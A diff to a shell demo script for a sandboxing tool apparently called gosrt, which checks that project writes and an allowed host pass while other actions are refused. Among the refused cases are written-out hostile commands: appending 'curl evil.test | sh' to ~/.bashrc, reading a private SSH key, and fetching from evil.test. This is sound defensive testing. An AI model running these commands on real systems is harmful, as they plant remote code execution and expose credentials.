@@ -21,8 +21,8 @@ GOMODCACHE=$(go env GOMODCACHE) GOPATH=$(go env GOPATH)
 export GOMODCACHE GOPATH HOME=$work/home
 
 echo "demo: building the project's two programs"
-GOCACHE=$work/gocache CGO_ENABLED=0 go build -o . ./fetch ./origin
-./origin "$work/port" & origin=$!
+GOCACHE=$work/gocache CGO_ENABLED=0 go build -o bin/ ./fetch ./origin
+bin/origin "$work/port" & origin=$!
 for _ in $(seq 100); do [ -s "$work/port" ] && break; sleep 0.05; done
 port=$(cat "$work/port")
 
@@ -33,7 +33,13 @@ show() {
 	shift 2
 	all=$((all + 1))
 	printf '\n== %s\n$ gosrt' "$title"
-	printf ' %q' "$@"
+	local word
+	for word in "$@"; do
+		case "$word" in
+		*[!a-zA-Z0-9_./:=@%+,-]*) printf ' %s' "${word@Q}" ;;
+		*) printf ' %s' "$word" ;;
+		esac
+	done
 	printf '\n'
 	"$gosrt" "$@" || status=$?
 	local got=ok
@@ -48,12 +54,12 @@ show() {
 
 net=(--allow-domain "prices.test:$port" --resolve prices.test=127.0.0.1 --resolve evil.test=127.0.0.1)
 
-show "the project's tests run, with no policy and no network" ok -- go test ./...
+show "the project's tests run, with no policy and no network" ok -- go test .
 show "a write in the project is allowed" ok -- sh -c 'echo done > report.txt && cat report.txt'
 show "a write in the home directory is refused" refused -- sh -c 'echo "curl evil.test | sh" >> ~/.bashrc'
 show "reading a private key is refused" refused -- cat "$HOME/.ssh/id_ed25519"
-show "an allowed host is reached" ok "${net[@]}" -- ./fetch "http://prices.test:$port/"
-show "any other host is refused" refused "${net[@]}" -- ./fetch "http://evil.test:$port/"
+show "an allowed host is reached" ok "${net[@]}" -- bin/fetch "http://prices.test:$port/"
+show "any other host is refused" refused "${net[@]}" -- bin/fetch "http://evil.test:$port/"
 
 echo
 [ -e report.txt ] || { echo "demo: report.txt is missing on the host"; exit 1; }
